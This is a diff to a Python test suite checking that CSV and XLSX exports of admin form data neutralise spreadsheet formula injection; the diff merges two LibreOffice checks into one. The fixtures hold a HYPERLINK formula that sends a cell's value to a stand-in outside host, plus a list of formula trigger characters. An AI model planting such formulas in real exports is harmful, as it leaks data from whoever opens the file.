@@ -19,7 +19,7 @@ TABLE = "/admin/interest_forms/expressionofinterest/"
 FORMULA = 'HYPERLINK("https://example.org?"&A1,"виж")'
 TWINS = [chr(ord(sign) + 0xFEE0) for sign in "=+-@"]
 SIGNS = [*"=+-@", *TWINS, "\t=", " =", "\u00a0+", "\r\n@", "|", "%"]
-OFFICE = shutil.which("soffice")
+OFFICE = shutil.which("soffice") or "soffice"
 
 
 @pytest.fixture
@@ -92,23 +92,20 @@ def test_table_holds_what_was_told_with_formulas_made_harmless(
     assert set(begins) & {*"=+-@|%", *TWINS} == set()
 
 
-@pytest.mark.skipif(not OFFICE, reason="needs LibreOffice")
-@pytest.mark.parametrize(
-    ("action", "name"), [("export", "forms.csv"), ("export_xlsx", "forms.xlsx")]
-)
-def test_office_program_opens_it_as_text(
-    client, staff, group, forms, tmp_path, action, name
-):
-    (tmp_path / name).write_bytes(exported(client, forms, action))
+def test_office_program_opens_both_as_text(client, staff, group, forms, tmp_path):
+    names = {"export": "table.csv", "export_xlsx": "sheet.xlsx"}
+    for action, name in names.items():
+        (tmp_path / name).write_bytes(exported(client, forms, action))
 
     subprocess.run(  # noqa: S603 -- our own command
-        [OFFICE, "--headless", "--convert-to", "fods", name],
+        [OFFICE, "--headless", "--convert-to", "fods", *names.values()],
         cwd=tmp_path,
         env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
         check=True,
         timeout=90,
     )
 
-    opened = (tmp_path / "forms.fods").read_text()
-    assert "table:formula=" not in opened
-    assert "SUM(1;1)" in opened
+    for opened in ("table.fods", "sheet.fods"):
+        told = (tmp_path / opened).read_text()
+        assert "table:formula=" not in told
+        assert "SUM(1;1)" in told
